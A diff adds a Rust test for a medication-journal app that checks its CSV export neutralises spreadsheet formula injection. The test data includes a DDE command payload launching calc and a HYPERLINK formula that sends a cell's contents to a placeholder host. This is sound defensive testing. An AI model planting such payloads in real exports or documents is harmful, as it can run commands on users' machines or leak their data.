@@ -380,3 +380,78 @@ fn import_into_a_journal_without_days_keeps_its_own_symptoms() {
     assert_eq!(names[..file_names.len()], file_names[..], "the file's list comes first, ids kept");
     assert_eq!(names.last().map(String::as_str), Some("Set up before the first day"));
 }
+
+/// A text cell a spreadsheet would run as a formula (OWASP: it starts with =, +, -, @, a tab or
+/// a carriage return) is written with a leading apostrophe, and so is one that starts with an
+/// apostrophe; import takes it off again, so the CSV round trip stays exact. Numbers are
+/// written as they are. Names sit in header cells after "symptom: " or "side effect: ", so
+/// they cannot start a cell: they are written as they are.
+#[test]
+fn csv_text_cells_cannot_run_as_formulas() {
+    let mut src = empty();
+    let minus = src.add_item(Catalog::Symptoms, "-cough", "").unwrap().id;
+    let formula = src.add_item(Catalog::SideEffects, "=cmd|' /C calc'!A0", "").unwrap().id;
+    let hyperlink = r#"=HYPERLINK("https://x/?"&K2,"open")"#;
+    let day = Day {
+        date: date("2025-02-01"),
+        doses: vec![
+            Dose::Taken {
+                time: Some(time("22:00")),
+                amount: Micrograms(4500),
+                formulation: Formulation::Capsule,
+                note: "+1 extra".into(),
+            },
+            Dose::Missed { time: None, reason: "@SUM(1+1)".into() },
+            Dose::Taken {
+                time: None,
+                amount: Micrograms(500),
+                formulation: Formulation::Capsule,
+                note: "'quoted".into(),
+            },
+        ],
+        scores: vec![Score { symptom: minus, value: 3 }],
+        wellbeing: Some(5),
+        dreams: Dreams { notes: "\tindented".into(), ..Default::default() },
+        side_effects: vec![SideEffectEntry { side_effect: formula, severity: Severity::Mild }],
+        notes: hyperlink.into(),
+        ..Day::new(date("2025-02-01"))
+    };
+    let others = [
+        ("2025-02-02", "'=1+1"),
+        ("2025-02-03", "-"),
+        ("2025-02-04", "\r\nafter a line break"),
+        ("2025-02-05", "a = b - c"),
+    ];
+    src.save_day(&day).unwrap();
+    for (d, note) in others {
+        src.save_day(&Day { notes: note.into(), ..Day::new(date(d)) }).unwrap();
+    }
+    let csv = export_csv(&src, ALL).unwrap();
+
+    let mut r = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let header = r.headers().unwrap().clone();
+    assert!(header.iter().any(|h| h == "symptom: -cough"), "{header:?}");
+    assert!(header.iter().any(|h| h == "side effect: =cmd|' /C calc'!A0"), "{header:?}");
+    let cell = |row: &csv::StringRecord, name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
+    let rows: Vec<_> = r.records().map(Result::unwrap).collect();
+    for row in &rows {
+        for c in row.iter() {
+            assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell would run as a formula: {c:?}");
+        }
+    }
+    assert_eq!(cell(&rows[0], "notes"), format!("'{hyperlink}"));
+    assert_eq!(cell(&rows[0], "dream notes"), "'\tindented");
+    assert_eq!(cell(&rows[0], "dose 1 note"), "'+1 extra");
+    assert_eq!(cell(&rows[0], "dose 2 note"), "'@SUM(1+1)");
+    assert_eq!(cell(&rows[0], "dose 3 note"), "''quoted");
+    assert_eq!(cell(&rows[0], "dose 1 mg"), "4.5");
+    assert_eq!(cell(&rows[0], "symptom: -cough"), "3");
+    assert_eq!(cell(&rows[1], "notes"), "''=1+1");
+    assert_eq!(cell(&rows[2], "notes"), "'-");
+    assert_eq!(cell(&rows[4], "notes"), "a = b - c");
+
+    let mut dst = empty();
+    import(&mut dst, &csv, ImportMode::RefuseConflicts).unwrap();
+    assert_eq!(by_name(&src), by_name(&dst));
+    assert_eq!(export_csv(&dst, ALL).unwrap(), csv);
+}
